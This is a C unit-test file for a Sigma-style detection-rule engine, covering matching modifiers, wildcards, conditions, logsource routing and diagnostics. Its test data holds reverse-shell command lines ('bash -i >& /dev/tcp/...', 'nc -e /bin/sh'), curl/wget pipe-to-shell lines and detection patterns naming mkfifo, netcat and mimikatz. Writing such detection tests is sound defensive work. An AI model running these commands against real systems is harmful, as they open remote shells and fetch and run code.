/* Unit tests for lib/detect: modifiers, wildcards and escapes, conditions and
 * precedence, logsource routing, diagnostics with lines, unsupported
 * features, limits, folder loading and concurrent matching. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "detect.h"
#include "err.h"
#include "event.h"
#include "util.h"

#define HDR                                                                                        \
	"title: t\n"                                                                               \
	"id: 11111111-2222-4333-8444-555555555555\n"                                               \
	"logsource:\n"                                                                             \
	"    product: linux\n"                                                                     \
	"    category: process_creation\n"                                                         \
	"detection:\n"
#define RULE(det) HDR det

struct diagcap {
	int n;
	struct detect_diag first;
};

static void cap_diag(const struct detect_diag *d, void *ctx)
{
	struct diagcap *c = ctx;
	if (c->n++ == 0)
		c->first = *d;
}

/* Loads yaml, which must compile into exactly one rule. */
static struct ruleset *load_ok(const char *yaml)
{
	struct ruleset *rs = NULL;
	struct detect_load_stats st;
	struct diagcap dc = {0};

	assert_int_equal(ruleset_load_mem(yaml, strlen(yaml), "t.yml", &rs, &st, cap_diag, &dc), 0);
	if (dc.n)
		print_message("unexpected diagnostic: %s:%d: %s\n", dc.first.file, dc.first.line,
			      dc.first.reason);
	assert_int_equal(dc.n, 0);
	assert_int_equal(st.loaded, 1);
	assert_int_equal(ruleset_count(rs), 1);
	return rs;
}

/* Loads yaml, which must be rejected with one diagnostic of severity sev;
 * returns that diagnostic. */
static struct detect_diag load_bad(const char *yaml, int sev)
{
	struct ruleset *rs = NULL;
	struct detect_load_stats st;
	struct diagcap dc = {0};

	assert_int_equal(ruleset_load_mem(yaml, strlen(yaml), "bad.yml", &rs, &st, cap_diag, &dc),
			 0);
	assert_int_equal(ruleset_count(rs), 0);
	assert_int_equal(dc.n, 1);
	assert_int_equal(dc.first.severity, sev);
	assert_string_equal(dc.first.file, "bad.yml");
	assert_int_equal(st.loaded, 0);
	assert_int_equal(sev == YM_E_PARSE ? st.errors : st.unsupported, 1);
	ruleset_free(rs);
	return dc.first;
}

static void expect_bad(const char *yaml, int sev, int line, const char *reason_part)
{
	struct detect_diag d = load_bad(yaml, sev);
	if (!strstr(d.reason, reason_part))
		print_message("reason was: %s\n", d.reason);
	assert_non_null(strstr(d.reason, reason_part));
	assert_int_equal(d.line, line);
}

/* Matches a linux process_creation event with fields given as name, value
 * pairs ending with NULL; returns the number of matching rules. */
static int m(const struct ruleset *rs, ...)
{
	struct event ev;
	va_list ap;
	const char *k;

	event_init(&ev);
	ev.category = EVCAT_PROCESS_CREATION;
	ev.product = "linux";
	va_start(ap, rs);
	while ((k = va_arg(ap, const char *)) != NULL) {
		const char *v = va_arg(ap, const char *);
		assert_int_equal(event_set_str(&ev, k, v), 0);
	}
	va_end(ap);
	return ruleset_match(rs, &ev, NULL, NULL);
}

static void test_equality_case_insensitive(void **state)
{
	struct ruleset *rs = load_ok(RULE("    sel:\n"
					  "        Image: /usr/bin/WhoAmI\n"
					  "    condition: sel\n"));
	(void)state;
	assert_int_equal(m(rs, "Image", "/usr/bin/whoami", NULL), 1);
	assert_int_equal(m(rs, "Image", "/USR/BIN/WHOAMI", NULL), 1);
	assert_int_equal(m(rs, "Image", "/usr/bin/whoami2", NULL), 0);
	assert_int_equal(m(rs, "Image", "x/usr/bin/whoami", NULL), 0);
	assert_int_equal(m(rs, "CommandLine", "/usr/bin/whoami", NULL), 0);
	/* field names are looked up case-insensitively as a fallback */
	assert_int_equal(m(rs, "image", "/usr/bin/whoami", NULL), 1);
	ruleset_free(rs);
}

static void test_contains_startswith_endswith(void **state)
{
	struct ruleset *rs;
	(void)state;
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|contains: '/dev/TCP/'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "bash -i >& /dev/tcp/1.2.3.4/80 0>&1", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "/dev/tcp/", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "/dev/tc", NULL), 0);
	ruleset_free(rs);

	/* caseless search whose first byte is a letter, with near misses before the hit */
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|contains: 'mkfifo'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "mkfimKfIFO", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "MKFIFO", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "Mmkfif mkfifO", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "mkfif MKFIF mkfi", NULL), 0);
	assert_int_equal(m(rs, "CommandLine", "", NULL), 0);
	ruleset_free(rs);

	rs = load_ok(RULE("    sel:\n"
			  "        Image|startswith: '/tmp/.'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "Image", "/tmp/.x/kworker", NULL), 1);
	assert_int_equal(m(rs, "Image", "/TMP/.", NULL), 1);
	assert_int_equal(m(rs, "Image", "/var/tmp/.x", NULL), 0);
	assert_int_equal(m(rs, "Image", "/tmp", NULL), 0);
	ruleset_free(rs);

	rs = load_ok(RULE("    sel:\n"
			  "        Image|endswith:\n"
			  "            - '/sh'\n"
			  "            - '/dash'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "Image", "/usr/bin/sh", NULL), 1);
	assert_int_equal(m(rs, "Image", "/usr/bin/dash", NULL), 1);
	assert_int_equal(m(rs, "Image", "/usr/bin/bash", NULL), 0);
	assert_int_equal(m(rs, "Image", "/usr/bin/sh2", NULL), 0);
	assert_int_equal(m(rs, "Image", "sh", NULL), 0);
	ruleset_free(rs);
}

static void test_all_modifier(void **state)
{
	struct ruleset *rs = load_ok(RULE("    sel:\n"
					  "        CommandLine|contains|all:\n"
					  "            - 'curl'\n"
					  "            - '| sh'\n"
					  "    condition: sel\n"));
	(void)state;
	assert_int_equal(m(rs, "CommandLine", "curl -s http://x/a | sh", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "| sh curl", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "curl -s http://x/a", NULL), 0);
	assert_int_equal(m(rs, "CommandLine", "wget -O- x | sh", NULL), 0);
	ruleset_free(rs);
}

static void test_cased(void **state)
{
	struct ruleset *rs = load_ok(RULE("    sel:\n"
					  "        CommandLine|contains|cased: 'ABC'\n"
					  "    condition: sel\n"));
	(void)state;
	assert_int_equal(m(rs, "CommandLine", "xxABCxx", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "xxabcxx", NULL), 0);
	assert_int_equal(m(rs, "CommandLine", "xxAbCxx", NULL), 0);
	ruleset_free(rs);
}

static void test_wildcards(void **state)
{
	struct ruleset *rs;
	(void)state;
	rs = load_ok(RULE("    sel:\n"
			  "        Image: '/usr/bin/who?mi'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "Image", "/usr/bin/whoami", NULL), 1);
	assert_int_equal(m(rs, "Image", "/usr/bin/whoXmi", NULL), 1);
	assert_int_equal(m(rs, "Image", "/usr/bin/whomi", NULL), 0);
	assert_int_equal(m(rs, "Image", "/usr/bin/whoaami", NULL), 0);
	ruleset_free(rs);

	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine: 'a*b*c'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "abc", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "aXXbYYc", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "abcbc", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "acb", NULL), 0);
	assert_int_equal(m(rs, "CommandLine", "abcd", NULL), 0);
	assert_int_equal(m(rs, "CommandLine", "ab", NULL), 0);
	/* first and last chunk must not overlap */
	assert_int_equal(m(rs, "CommandLine", "ac", NULL), 0);
	ruleset_free(rs);

	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine: 'ab*ba'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "aba", NULL), 0);
	assert_int_equal(m(rs, "CommandLine", "abba", NULL), 1);
	ruleset_free(rs);

	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine: '*'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "anything", NULL), 1);
	assert_int_equal(m(rs, "Image", "x", NULL), 0); /* the field must exist */
	ruleset_free(rs);

	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|contains: 'x?z'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "aaxYzaa", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "aaxzaa", NULL), 0);
	ruleset_free(rs);
}

static void test_escapes(void **state)
{
	struct ruleset *rs;
	(void)state;
	/* \* is a plain star */
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine: 'a\\*b'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "a*b", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "axb", NULL), 0);
	ruleset_free(rs);
	/* \? is a plain question mark */
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine: 'a\\?'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "a?", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "ab", NULL), 0);
	ruleset_free(rs);
	/* \\* is a backslash followed by a wildcard */
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine: 'C:\\\\*'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "C:\\Windows", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "C:\\", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "C:Windows", NULL), 0);
	ruleset_free(rs);
	/* \\\* is a backslash and a plain star */
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine: 'a\\\\\\*'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "a\\*", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "a\\x", NULL), 0);
	ruleset_free(rs);
	/* a single backslash before anything else is itself; \\\\ is two */
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine:\n"
			  "            - 'C:\\Windows\\'\n"
			  "            - 'x\\\\\\\\y'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "c:\\windows\\", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "x\\\\y", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "x\\y", NULL), 0);
	ruleset_free(rs);
}

static void test_regex(void **state)
{
	struct ruleset *rs;
	(void)state;
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|re: 'nc(at)? .*-e /bin/(ba)?sh'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "nc -e /bin/sh 1.2.3.4 4444", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "ncat 1.2.3.4 -e /bin/bash", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "NC -e /bin/sh", NULL), 0); /* cased by default */
	ruleset_free(rs);

	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|re|i: '^whoami$'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "WHOAMI", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "whoami x", NULL), 0);
	ruleset_free(rs);

	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|re|m: '^b$'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "a\nb\nc", NULL), 1);
	ruleset_free(rs);
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|re: '^b$'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "a\nb\nc", NULL), 0);
	ruleset_free(rs);

	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|re|s: 'a.b'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "a\nb", NULL), 1);
	ruleset_free(rs);
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|re: 'a.b'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "a\nb", NULL), 0);
	ruleset_free(rs);

	/* all with regexes: every one must match */
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|re|all:\n"
			  "            - 'a+'\n"
			  "            - 'b+'\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "CommandLine", "xaab", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "xaa", NULL), 0);
	ruleset_free(rs);
}

static void test_regex_bounded(void **state)
{
	struct ruleset *rs;
	char subject[4096];
	uint64_t t0;
	(void)state;
	/* Catastrophic backtracking: the match limit stops it and it counts as no match. */
	rs = load_ok(RULE("    sel:\n"
			  "        CommandLine|re: '^(a|aa)+$'\n"
			  "    condition: sel\n"));
	memset(subject, 'a', sizeof(subject) - 2);
	subject[sizeof(subject) - 2] = 'b';
	subject[sizeof(subject) - 1] = 0;
	t0 = util_mono_ns();
	assert_int_equal(m(rs, "CommandLine", subject, NULL), 0);
	assert_true(util_mono_ns() - t0 < 2000000000ull);
	assert_true(ruleset_match_errors(rs) >= 1);
	ruleset_free(rs);
}

static void test_exists(void **state)
{
	struct ruleset *rs;
	(void)state;
	rs = load_ok(RULE("    sel:\n"
			  "        ParentImage|exists: true\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "ParentImage", "", NULL), 1);
	assert_int_equal(m(rs, "Image", "/bin/sh", NULL), 0);
	ruleset_free(rs);
	rs = load_ok(RULE("    sel:\n"
			  "        ParentImage|exists: false\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "ParentImage", "/x", NULL), 0);
	assert_int_equal(m(rs, "Image", "/bin/sh", NULL), 1);
	ruleset_free(rs);
}

static void test_null_and_empty(void **state)
{
	struct ruleset *rs;
	(void)state;
	rs = load_ok(RULE("    sel:\n"
			  "        Image: /bin/sh\n"
			  "        ParentImage: null\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "Image", "/bin/sh", NULL), 1);
	assert_int_equal(m(rs, "Image", "/bin/sh", "ParentImage", "", NULL), 1);
	assert_int_equal(m(rs, "Image", "/bin/sh", "ParentImage", "/bin/x", NULL), 0);
	ruleset_free(rs);
	/* '' is an empty value: the field must be there and empty */
	rs = load_ok(RULE("    sel:\n"
			  "        ParentImage: ''\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "ParentImage", "", NULL), 1);
	assert_int_equal(m(rs, "Image", "/bin/sh", NULL), 0);
	assert_int_equal(m(rs, "ParentImage", "x", NULL), 0);
	ruleset_free(rs);
	/* the "not null" idiom of the spec */
	rs = load_ok(RULE("    sel:\n"
			  "        Image: /bin/sh\n"
			  "    filter:\n"
			  "        User: ~\n"
			  "    condition: sel and not filter\n"));
	assert_int_equal(m(rs, "Image", "/bin/sh", "User", "root", NULL), 1);
	assert_int_equal(m(rs, "Image", "/bin/sh", NULL), 0);
	ruleset_free(rs);
}

static void test_lists_and_maps(void **state)
{
	struct ruleset *rs;
	(void)state;
	/* map = AND, list of values = OR */
	rs = load_ok(RULE("    sel:\n"
			  "        Image|endswith: '/id'\n"
			  "        User:\n"
			  "            - root\n"
			  "            - admin\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "Image", "/usr/bin/id", "User", "admin", NULL), 1);
	assert_int_equal(m(rs, "Image", "/usr/bin/id", "User", "bob", NULL), 0);
	assert_int_equal(m(rs, "Image", "/usr/bin/ls", "User", "root", NULL), 0);
	ruleset_free(rs);
	/* list of maps = OR */
	rs = load_ok(RULE("    sel:\n"
			  "        - Image|endswith: '/whoami'\n"
			  "        - Image|endswith: '/id'\n"
			  "          User: root\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "Image", "/usr/bin/whoami", NULL), 1);
	assert_int_equal(m(rs, "Image", "/usr/bin/id", "User", "root", NULL), 1);
	assert_int_equal(m(rs, "Image", "/usr/bin/id", "User", "bob", NULL), 0);
	ruleset_free(rs);
	/* numbers compare as the text of their YAML scalar */
	rs = load_ok(RULE("    sel:\n"
			  "        UserId: 0\n"
			  "        ProcessId:\n"
			  "            - 1234\n"
			  "            - 0x17\n"
			  "    condition: sel\n"));
	assert_int_equal(m(rs, "UserId", "0", "ProcessId", "1234", NULL), 1);
	assert_int_equal(m(rs, "UserId", "0", "ProcessId", "0x17", NULL), 1);
	assert_int_equal(m(rs, "UserId", "0", "ProcessId", "23", NULL), 0);
	assert_int_equal(m(rs, "UserId", "00", "ProcessId", "1234", NULL), 0);
	ruleset_free(rs);
}

static void test_keywords(void **state)
{
	struct ruleset *rs;
	(void)state;
	rs = load_ok(RULE("    keywords:\n"
			  "        - 'mimikatz'\n"
			  "        - 'sekurlsa::'\n"
			  "    condition: keywords\n"));
	assert_int_equal(m(rs, "CommandLine", "run MimiKatz now", NULL), 1);
	assert_int_equal(m(rs, "Image", "/x", "ParentCommandLine", "a sekurlsa::b", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "benign", "Image", "/bin/ls", NULL), 0);
	ruleset_free(rs);
	/* '|all': every keyword somewhere in the event */
	rs = load_ok(RULE("    keywords:\n"
			  "        '|all':\n"
			  "            - 'alpha'\n"
			  "            - 'beta'\n"
			  "    condition: keywords\n"));
	assert_int_equal(m(rs, "CommandLine", "alpha", "Image", "/beta", NULL), 1);
	assert_int_equal(m(rs, "CommandLine", "alpha", NULL), 0);
	ruleset_free(rs);
}

/* Three searches a, b, c each matching when field A / B / C is "1". */
#define ABC(cond)                                                                                  \
	RULE("    a:\n        A: '1'\n    b:\n        B: '1'\n    c:\n        C: '1'\n"            \
	     "    condition: " cond "\n")

static int abc(const struct ruleset *rs, int a, int b, int c)
{
	return m(rs, "A", a ? "1" : "0", "B", b ? "1" : "0", "C", c ? "1" : "0", NULL);
}

static void test_condition_forms(void **state)
{
	struct ruleset *rs;
	(void)state;
	rs = load_ok(ABC("a and b"));
	assert_int_equal(abc(rs, 1, 1, 0), 1);
	assert_int_equal(abc(rs, 1, 0, 1), 0);
	ruleset_free(rs);
	rs = load_ok(ABC("a or b"));
	assert_int_equal(abc(rs, 0, 1, 0), 1);
	assert_int_equal(abc(rs, 0, 0, 1), 0);
	ruleset_free(rs);
	rs = load_ok(ABC("not a"));
	assert_int_equal(abc(rs, 0, 0, 0), 1);
	assert_int_equal(abc(rs, 1, 0, 0), 0);
	ruleset_free(rs);
	rs = load_ok(ABC("(a or b) and c"));
	assert_int_equal(abc(rs, 1, 0, 0), 0);
	assert_int_equal(abc(rs, 0, 1, 1), 1);
	ruleset_free(rs);
	rs = load_ok(ABC("a AND NOT (b OR c)")); /* keywords are case-insensitive */
	assert_int_equal(abc(rs, 1, 0, 0), 1);
	assert_int_equal(abc(rs, 1, 0, 1), 0);
	ruleset_free(rs);
	rs = load_ok(ABC("not not a"));
	assert_int_equal(abc(rs, 1, 0, 0), 1);
	assert_int_equal(abc(rs, 0, 0, 0), 0);
	ruleset_free(rs);
	/* spread over lines, as YAML block scalars allow */
	rs = load_ok(RULE("    a:\n        A: '1'\n    b:\n        B: '1'\n"
			  "    condition: |\n"
			  "        a and\n"
			  "        (\n"
			  "            b\n"
			  "        )\n"));
	assert_int_equal(m(rs, "A", "1", "B", "1", NULL), 1);
	assert_int_equal(m(rs, "A", "1", NULL), 0);
	ruleset_free(rs);
	/* a list of conditions is their OR */
	rs = load_ok(RULE("    a:\n        A: '1'\n    b:\n        B: '1'\n"
			  "    condition:\n"
			  "        - a\n"
			  "        - b\n"));
	assert_int_equal(m(rs, "B", "1", NULL), 1);
	assert_int_equal(m(rs, "C", "1", NULL), 0);
	ruleset_free(rs);
}

static void test_precedence(void **state)
{
	struct ruleset *rs;
	(void)state;
	/* a or b and c == a or (b and c) */
	rs = load_ok(ABC("a or b and c"));
	assert_int_equal(abc(rs, 1, 0, 0), 1);
	assert_int_equal(abc(rs, 0, 1, 0), 0);
	assert_int_equal(abc(rs, 0, 1, 1), 1);
	ruleset_free(rs);
	/* a and b or c == (a and b) or c */
	rs = load_ok(ABC("a and b or c"));
	assert_int_equal(abc(rs, 0, 0, 1), 1);
	assert_int_equal(abc(rs, 1, 0, 0), 0);
	ruleset_free(rs);
	/* not a and b == (not a) and b */
	rs = load_ok(ABC("not a and b"));
	assert_int_equal(abc(rs, 0, 1, 0), 1);
	assert_int_equal(abc(rs, 1, 0, 0), 0);
	assert_int_equal(abc(rs, 0, 0, 0), 0);
	ruleset_free(rs);
	/* not a or b == (not a) or b */
	rs = load_ok(ABC("not a or b"));
	assert_int_equal(abc(rs, 1, 1, 0), 1);
	assert_int_equal(abc(rs, 1, 0, 0), 0);
	ruleset_free(rs);
}

static void test_x_of(void **state)
{
	struct ruleset *rs;
	const char *det = "    selection_a:\n        A: '1'\n"
			  "    selection_b:\n        B: '1'\n"
			  "    filter_c:\n        C: '1'\n"
			  "    _hidden:\n        D: '1'\n";
	char y[1024];
	(void)state;

	snprintf(y, sizeof(y), HDR "%s    condition: 1 of selection_*\n", det);
	rs = load_ok(y);
	assert_int_equal(m(rs, "B", "1", NULL), 1);
	assert_int_equal(m(rs, "C", "1", NULL), 0);
	ruleset_free(rs);

	snprintf(y, sizeof(y), HDR "%s    condition: all of selection_* and not 1 of filter*\n",
		 det);
	rs = load_ok(y);
	assert_int_equal(m(rs, "A", "1", "B", "1", NULL), 1);
	assert_int_equal(m(rs, "A", "1", NULL), 0);
	assert_int_equal(m(rs, "A", "1", "B", "1", "C", "1", NULL), 0);
	ruleset_free(rs);

	snprintf(y, sizeof(y), HDR "%s    condition: 1 of them\n", det);
	rs = load_ok(y);
	assert_int_equal(m(rs, "C", "1", NULL), 1);
	assert_int_equal(m(rs, "D", "1", NULL), 0); /* _hidden is not part of them */
	ruleset_free(rs);

	snprintf(y, sizeof(y), HDR "%s    condition: all of them\n", det);
	rs = load_ok(y);
	assert_int_equal(m(rs, "A", "1", "B", "1", "C", "1", NULL), 1);
	assert_int_equal(m(rs, "A", "1", "B", "1", NULL), 0);
	ruleset_free(rs);

	snprintf(y, sizeof(y), HDR "%s    condition: any of *_b or all of _*\n", det);
	rs = load_ok(y);
	assert_int_equal(m(rs, "B", "1", NULL), 1);
	assert_int_equal(m(rs, "D", "1", NULL), 1);
	assert_int_equal(m(rs, "A", "1", NULL), 0);
	ruleset_free(rs);
}

static const char *multi_rules =
    "title: any category\n"
    "id: r-any\n"
    "logsource:\n    product: linux\n"
    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
    "---\n"
    "title: windows\n"
    "id: r-win\n"
    "logsource:\n    product: windows\n    category: process_creation\n"
    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
    "---\n"
    "title: network\n"
    "id: r-net\n"
    "logsource:\n    category: network_connection\n"
    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
    "---\n"
    "title: linux proc\n"
    "id: r-proc\n"
    "logsource:\n    product: Linux\n    category: process_creation\n"
    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
    "---\n"
    "title: service\n"
    "id: r-svc\n"
    "logsource:\n    product: linux\n    service: auditd\n"
    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
    "---\n"
    "title: registry\n"
    "id: r-reg\n"
    "logsource:\n    category: registry_set\n"
    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
    "---\n"
    "title: no product\n"
    "id: r-noprod\n"
    "logsource:\n    category: process_creation\n"
    "detection:\n    s:\n        Image: /bin/x\n    condition: s\n";

struct ids {
	char buf[256];
	int stop_after;
	int n;
};

static int collect(const struct rule_info *ri, const struct event *ev, void *ctx)
{
	struct ids *ids = ctx;
	size_t len = strlen(ids->buf);
	(void)ev;
	snprintf(ids->buf + len, sizeof(ids->buf) - len, "%s%s", len ? "," : "", ri->id);
	return ++ids->n == ids->stop_after;
}

static const char *route(const struct ruleset *rs, unsigned cat, const char *product,
			 struct ids *ids)
{
	struct event ev;
	int n;

	memset(ids->buf, 0, sizeof(ids->buf));
	ids->n = 0;
	event_init(&ev);
	ev.category = (uint16_t)cat;
	ev.product = product;
	assert_int_equal(event_set_str(&ev, "Image", "/bin/x"), 0);
	n = ruleset_match(rs, &ev, collect, ids);
	assert_int_equal(n, ids->n);
	return ids->buf;
}

static void test_logsource_routing(void **state)
{
	struct ruleset *rs = NULL;
	struct detect_load_stats st;
	struct ids ids = {.stop_after = -1};
	(void)state;

	assert_int_equal(
	    ruleset_load_mem(multi_rules, strlen(multi_rules), "m.yml", &rs, &st, NULL, NULL), 0);
	assert_int_equal(st.loaded, 7);
	assert_int_equal(st.errors + st.unsupported, 0);
	/* load order kept across the product-less and the product groups */
	assert_string_equal(route(rs, EVCAT_PROCESS_CREATION, "linux", &ids),
			    "r-any,r-proc,r-noprod");
	assert_string_equal(route(rs, EVCAT_PROCESS_CREATION, "windows", &ids), "r-win,r-noprod");
	assert_string_equal(route(rs, EVCAT_PROCESS_CREATION, NULL, &ids), "r-noprod");
	assert_string_equal(route(rs, EVCAT_NETWORK_CONNECTION, "linux", &ids), "r-any,r-net");
	assert_string_equal(route(rs, EVCAT_DNS_QUERY, "linux", &ids), "r-any");
	assert_string_equal(route(rs, 999, "linux", &ids), "r-any");
	/* on_match returning non-zero stops matching */
	ids.stop_after = 1;
	assert_string_equal(route(rs, EVCAT_PROCESS_CREATION, "linux", &ids), "r-any");
	ruleset_free(rs);
}

static void test_rule_info(void **state)
{
	const char *y = "title: Info test\n"
			"id: 0f6b7c2e-1d2a-4b8e-9c3d-4e5f60718293\n"
			"status: experimental\n"
			"description: d\n"
			"level: high\n"
			"tags:\n    - attack.discovery\n    - attack.t1033\n"
			"logsource:\n    product: linux\n    category: process_creation\n"
			"detection:\n    s:\n        Image: /bin/x\n    condition: s\n"
			"falsepositives:\n    - none\n";
	struct ruleset *rs = load_ok(y);
	const struct rule_info *ri = ruleset_rule(rs, 0);
	(void)state;
	assert_non_null(ri);
	assert_null(ruleset_rule(rs, 1));
	assert_string_equal(ri->title, "Info test");
	assert_string_equal(ri->id, "0f6b7c2e-1d2a-4b8e-9c3d-4e5f60718293");
	assert_string_equal(ri->status, "experimental");
	assert_string_equal(ri->level, "high");
	assert_string_equal(ri->product, "linux");
	assert_string_equal(ri->category, "process_creation");
	assert_string_equal(ri->service, "");
	assert_string_equal(ri->file, "t.yml");
	assert_int_equal(ri->ntags, 2);
	assert_string_equal(ri->tags[1], "attack.t1033");
	ruleset_free(rs);
}

static void test_diagnostics(void **state)
{
	(void)state;
	/* broken YAML: the line of the problem */
	expect_bad("title: x\nlogsource:\n  product: linux\ndetection:\n  sel:\n    Image: 'a\n",
		   YM_E_PARSE, 7, "YAML");
	expect_bad("title: x\nlogsource: {product: linux\ndetection: 1\n", YM_E_PARSE, 3, "YAML");
	/* unknown identifier: the line of the condition */
	expect_bad(RULE("    sel:\n        Image: x\n    condition: sel and filter\n"), YM_E_PARSE,
		   9, "unknown search identifier 'filter'");
	expect_bad(RULE("    sel:\n        Image: x\n    condition: 1 of filter_*\n"), YM_E_PARSE,
		   9, "matches no search identifier");
	expect_bad("title: x\nlogsource:\n    product: linux\n", YM_E_PARSE, 1, "no 'detection'");
	expect_bad(RULE("    sel:\n        Image: x\n"), YM_E_PARSE, 6, "no condition");
	expect_bad(RULE("    condition: sel\n"), YM_E_PARSE, 6, "no search identifier");
	expect_bad("logsource:\n    product: linux\ndetection:\n    s: x\n    condition: s\n",
		   YM_E_PARSE, 1, "no 'title'");
	expect_bad("title: x\ndetection:\n    s: x\n    condition: s\n", YM_E_PARSE, 1,
		   "no 'logsource'");
	expect_bad(RULE("    sel:\n        Image|startwith: x\n    condition: sel\n"), YM_E_PARSE,
		   8, "unknown modifier 'startwith'");
	expect_bad(RULE("    sel:\n        Image|contains|endswith: x\n    condition: sel\n"),
		   YM_E_PARSE, 8, "cannot be combined");
	expect_bad(RULE("    sel:\n        Image|i: x\n    condition: sel\n"), YM_E_PARSE, 8,
		   "only valid after 're'");
	expect_bad(RULE("    sel:\n        Image|re: '(a'\n    condition: sel\n"), YM_E_PARSE, 8,
		   "bad regular expression");
	expect_bad(RULE("    sel:\n        Image|exists: maybe\n    condition: sel\n"), YM_E_PARSE,
		   8, "true or false");
	expect_bad(RULE("    sel:\n        Image:\n            - a\n            - null\n"
			"    condition: sel\n"),
		   YM_E_PARSE, 10, "null cannot be part of a list");
	expect_bad(RULE("    sel:\n        Image: {a: b}\n    condition: sel\n"), YM_E_PARSE, 8,
		   "not a map");
	expect_bad(RULE("    sel:\n        Image: x\n        Image: y\n    condition: sel\n"),
		   YM_E_PARSE, 9, "duplicate key 'Image'");
	expect_bad(RULE("    sel:\n    condition: sel\n"), YM_E_PARSE, 7, "is empty");
	expect_bad(RULE("    sel:\n        Image: x\n    condition: sel and\n"), YM_E_PARSE, 9,
		   "found end of condition");
	expect_bad(RULE("    sel:\n        Image: x\n    condition: (sel\n"), YM_E_PARSE, 9,
		   "expected ')'");
	expect_bad(RULE("    sel:\n        Image: x\n    condition: sel sel\n"), YM_E_PARSE, 9,
		   "expected 'and', 'or' or the end");
	expect_bad(RULE("    sel:\n        Image: x\n    condition: sel*\n"), YM_E_PARSE, 9,
		   "wildcards are only allowed");
	expect_bad(RULE("    sel:\n        Image: x\n    condition: sel & x\n"), YM_E_PARSE, 9,
		   "found '&'");
	expect_bad("title: x\nlevel: severe\nlogsource:\n    product: linux\n"
		   "detection:\n    s: x\n    condition: s\n",
		   YM_E_PARSE, 2, "level 'severe'");
	expect_bad("- a\n- b\n", YM_E_PARSE, 1, "must be a YAML map");
	expect_bad("", YM_E_PARSE, 0, "no YAML document");
	/* attacker-controlled text in a reason is escaped */
